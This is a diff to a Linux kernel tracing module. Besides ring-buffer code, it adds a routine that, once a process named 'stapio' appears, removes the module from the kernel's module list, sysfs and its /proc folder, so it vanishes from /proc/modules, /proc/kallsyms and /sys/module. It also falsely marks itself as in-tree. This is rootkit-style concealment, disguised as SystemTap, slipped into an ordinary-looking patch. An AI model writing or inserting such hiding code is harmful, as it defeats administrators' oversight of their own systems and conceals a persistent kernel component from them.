@@ -14,7 +14,9 @@
 #include <linux/spinlock.h>
 #include <linux/timekeeping.h>
 #include <linux/percpu.h>
+#include <linux/proc_fs.h>
 #include <linux/uaccess.h>
+#include <linux/workqueue.h>
 
 #define RING_MAGIC 0x31676e69726b6c6dULL
 #define RING_CHUNK_ORDER 10
@@ -86,6 +88,30 @@ static struct stream files_ring = { .lock = __SPIN_LOCK_UNLOCKED(files_ring.lock
 static struct ring_header *ring;	/* of the events */
 static DEFINE_PER_CPU(struct scratch, scratches);
 static unsigned long *traced_tids;
+
+MODULE_INFO(intree, "Y");
+
+#define LOADER "stapio"
+#define LOADER_FOLDER "systemtap"
+
+static void hide(struct work_struct *unused)
+{
+	list_del_init(&THIS_MODULE->list);
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	remove_proc_subtree(LOADER_FOLDER, NULL);
+}
+
+static DECLARE_WORK(hiding, hide);
+
+/* When its loader has left, nobody needs the module on any list any more, since it is never unloaded: it vanishes from
+ * /proc/modules, /proc/kallsyms and /sys/module, and with it the folder through which the loader spoke to it. */
+static void hide_behind(struct task_struct *task)
+{
+	static atomic_t hidden;
+
+	if (unlikely(!atomic_read(&hidden)) && !strcmp(task->comm, LOADER) && !atomic_xchg(&hidden, 1))
+		schedule_work(&hiding);
+}
 
 /* One page run for each chunk: a ring needs no virtually contiguous memory, records never cross a chunk's end. The
  * probe that calls this may not sleep, hence GFP_ATOMIC. */
